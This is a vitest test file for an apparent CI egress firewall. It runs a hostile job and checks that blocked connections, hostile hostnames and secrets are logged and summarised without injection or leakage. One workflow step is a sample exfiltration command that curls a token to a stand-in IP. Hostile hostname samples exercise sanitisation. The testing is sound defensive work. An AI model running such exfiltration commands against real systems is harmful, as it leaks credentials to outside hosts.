// What a hostile job writes into the report: its names of processes and hosts go through the real
// action to console, summary and log, and stay words. And a report of more than anybody can read.
import { marked } from 'marked';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { AuditEvent, AuditRecord } from '../../src/core/audit/event.ts';
import { aggregate } from '../../src/core/report/aggregate.ts';
import { renderAnnotations } from '../../src/core/report/annotations.ts';
import { renderSummary } from '../../src/core/report/job-summary.ts';
import { suggestPolicy } from '../../src/core/report/suggest.ts';
import { schemaFaults } from '../lab/audit-schema.ts';
import type { WorkflowRun } from '../lab/harness.ts';
import { eventsOf, runSteps, stepOf } from '../lab/run-written.ts';
import { HOSTILE_JOB } from './hostile-job.ts';
import { isDocumented, Told } from './told.ts';

const told = new Told();
const SECRET = 'ghs-5up3r5ecr3t';

afterAll(() => told.print());

/** Tags the summary is made of; everything else in its HTML would be somebody else's. */
const OWN_TAGS = new Set(
  'h2 h3 h4 p table thead tbody tr th td code pre em strong ul li details summary blockquote hr br wbr'.split(
    ' ',
  ),
);

/** Tags and attributes that are not the summary's own. */
function foreign(markdown: string): readonly string[] {
  const html = marked.parse(markdown, { gfm: true, async: false });
  return [...html.matchAll(/<\/?([a-zA-Z!][^\s>/]*)([^>]*)>/gu)].flatMap(
    ([tag, name = '', rest]) =>
      OWN_TAGS.has(name.toLowerCase()) && /^(?: class="language-yaml")?\s*\/?$/u.test(rest ?? '')
        ? []
        : [tag],
  );
}

/** Cells of each row of each table. */
function raggedRows(markdown: string): readonly string[] {
  const html = marked.parse(markdown, { gfm: true, async: false });
  return [...html.matchAll(/<table>(.*?)<\/table>/gsu)].flatMap(([, table = '']) => {
    const rows = [...table.matchAll(/<tr>(.*?)<\/tr>/gsu)].map(([, row = '']) => row);
    const width = rows[0]?.match(/<th>/gu)?.length;
    return rows.slice(1).filter((row) => row.match(/<td>/gu)?.length !== width);
  });
}

describe('a hostile job', () => {
  let run: WorkflowRun;
  beforeAll(async () => {
    run = await runSteps(
      'hostile',
      `
- name: start
  uses: ./
  with:
    allowed-hosts: registry.example.com:443
- name: hostile
  run: |
    cat > /tmp/hostile.py <<'END'
${HOSTILE_JOB.trim().replace(/^/gmu, '    ')}
    END
    python3 /tmp/hostile.py
- name: secret
  run: |
    curl -sS -m 3 -H "Authorization: token ${SECRET}" http://203.0.113.200/?key=${SECRET} || true
`,
    );
  }, 120_000);

  test('every attempt is in the log, which is what the shipped schema says', () => {
    expect(stepOf(run, 'hostile').log).toContain('tried 15 13');
    expect(schemaFaults(run.auditLog)).toEqual([]);
    const refused = eventsOf(run).filter(({ dst_ip: to = '' }) => to.startsWith('203.0.113.'));
    expect(refused).toHaveLength(16);
    const names = new Set(eventsOf(run).map(({ dst_hostname: name = '' }) => name));
    expect([...names].filter((name) => name.endsWith('.evil.test')).length).toBe(13);
    for (const one of run.auditLog.split('\n')) expect(one).not.toMatch(/\p{Cc}/u);
    told.closed(136, 'hostile names in the log: serialised, one line each');
  });

  test('case 136, the summary has no tag, attribute or link but its own, and no broken row', () => {
    const { summary } = stepOf(run, 'Post start');
    expect(summary).toContain('destinations blocked');
    expect(foreign('a <img src=x> [b](http://c)')).toHaveLength(3);
    expect(foreign(summary)).toEqual([]);
    expect(raggedRows(summary)).toEqual([]);
    // GitHub links bare addresses in text, and mentions; none may be left to it.
    expect(summary).not.toMatch(/:\/\/|www\.|[^&\w]@\w/u);
    expect(summary).not.toMatch(/\p{Cf}/u);
    told.closed(136, 'Markdown and HTML in the summary');
  });

  test('case 137, no line of main or post is a command of the job’s', () => {
    for (const name of ['start', 'Post start']) {
      const { log } = stepOf(run, name);
      expect(log).not.toContain('##[');
      const commands = log.split('\n').filter((text) => /^\s*::/u.test(text));
      for (const command of commands) {
        expect(command).toMatch(/^::(?:group|endgroup|warning|error|add-mask|debug)(?: [^:]*)?::/u);
        expect(command.replace(/^::[^:]*::/u, '')).not.toContain('::');
      }
      expect(log.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Cf}]/u);
    }
    expect(stepOf(run, 'Post start').log).toContain('::warning::cargowall: blocked');
    told.closed(137, 'workflow commands on the console');
  });

  test('case 142, arguments and requests are in neither log nor summary', () => {
    expect(eventsOf(run).some(({ dst_ip: to }) => to === '203.0.113.200')).toBe(true);
    for (const sink of [run.auditLog, stepOf(run, 'Post start').summary, run.meta]) {
      expect(sink).not.toContain(SECRET);
    }
    expect(isDocumented('L8')).toBe(true);
    told.closed(142, 'secrets in arguments');
    told.limit(142, 'a secret that is asked for as a name', 'L8');
  });

  test('the summary names the limits that apply', () => {
    const { summary } = stepOf(run, 'Post start');
    const [, ids = ''] = /threat-model\.md that apply: (.*?)\./u.exec(summary) ?? [];
    expect(ids).toMatch(/^L\d+(?:, L\d+)*$/u);
    for (const id of ids.split(', ')) expect(isDocumented(id), id).toBe(true);
  });
});

const STARTED: AuditRecord = {
  timestamp: '2026-11-24T06:35:00.000000000Z',
  event_type: 'session_started',
  would_deny: false,
  blocked: false,
  schema: 1,
  mode: 'enforce',
  default: 'deny',
  rules: 3,
  upstreams: [],
  clock_offset_ns: '0',
};
const FACTS = {
  mode: 'enforce',
  enforcing: true,
  isLockedDown: true,
  artifactName: 'log',
  problems: [],
} as const;

function blockOf(host: string, more: Partial<AuditEvent> = {}): AuditEvent {
  return {
    timestamp: '2026-11-24T06:35:01.000000000Z',
    event_type: 'connection_blocked',
    dst_ip: '198.51.100.20',
    dst_hostname: host,
    dst_port: 443,
    protocol: 'TCP',
    process: 'curl',
    pid: 7,
    would_deny: false,
    blocked: true,
    origin: 'job',
    ...more,
  };
}

describe('more than anybody can read', () => {
  test('case 140, 50,000 hosts: bounded, what was refused first, totals, and where the rest is', () => {
    const long = 'x'.repeat(60);
    const hosts = Array.from({ length: 50_000 }, (_, index) =>
      blockOf(`h${index}.${long}.${long}.${long}.example.net`),
    );
    const allowed = blockOf('ok.example', { event_type: 'connection_allowed', blocked: false });
    const report = aggregate({ records: [STARTED, ...hosts, allowed], badLines: [] });
    const summary = renderSummary(report, FACTS);
    expect(new TextEncoder().encode(summary).length).toBeLessThan(1024 * 1024);
    expect(summary).toContain('more are in the log');
    expect(summary).toContain('30000 attempts of further destinations, in the log alone');
    expect(summary.indexOf('### Blocked connections')).toBeLessThan(summary.indexOf('### Allowed'));
    expect(summary).toContain('<code>ok.example:443</code>');
    expect(summary).toContain('The whole log is in the artifact');
    expect(summary).toMatch(/policy.suggested.yml/u);
    expect(renderAnnotations(report).length).toBeLessThanOrEqual(10);
    expect(foreign(summary)).toEqual([]);
    told.closed(140, '50,000 blocked hosts');
  });

  test('case 139, suggestions are canonical names with their doubts, and never reverse names', () => {
    const hostile = [
      '<img>.evil.test',
      'a b.evil.test',
      '10.100.51.198.in-addr.arpa',
      '\\000.x.test',
    ];
    const asked = (name: string) =>
      blockOf(name, { event_type: 'dns_blocked', dst_ip: '', dst_port: 0, protocol: 'UDP' });
    const doubtful = ['evil.github.io', 'xn--gthub-n4a.com', `${'q'.repeat(40)}.evil.test`];
    const records = [STARTED, ...[...hostile, ...doubtful].map(asked), asked('plain.example')];
    const policy = suggestPolicy(aggregate({ records, badLines: [] })) ?? '';
    expect(policy).not.toMatch(/<img>|a b|in-addr|\\000/u);
    const lineOf = (name: string) =>
      policy
        .slice(policy.indexOf(`"=${name}"`))
        .split('\n')
        .slice(0, 2)
        .join('\n');
    expect(lineOf('evil.github.io')).toContain('anyone can register a name below github.io');
    expect(lineOf('xn--gthub-n4a.com')).toContain('looks like another name');
    expect(lineOf(`${'q'.repeat(40)}.evil.test`)).toContain('long label');
    expect(lineOf('plain.example')).not.toMatch(/anyone|looks like|long label/u);
    told.closed(139, 'suggestions');
  });
});
